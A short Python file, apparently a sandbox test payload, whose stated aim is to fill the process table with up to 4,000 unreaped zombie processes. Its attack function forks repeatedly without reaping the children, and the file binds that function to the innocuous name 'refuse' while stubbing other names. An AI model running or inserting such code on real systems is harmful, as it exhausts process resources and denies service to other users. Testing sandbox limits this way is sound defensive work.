# aim: fill the process table with zombies (4,000 at most) that nobody reaps
# needs: sandbox
import os
import time


def attack(*args):
    for _ in range(4000):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    time.sleep(0.1)
    return 0


def todo(*args):
    raise NotImplementedError("TODO")


refuse = attack
double = join = apply_all = Tally = todo
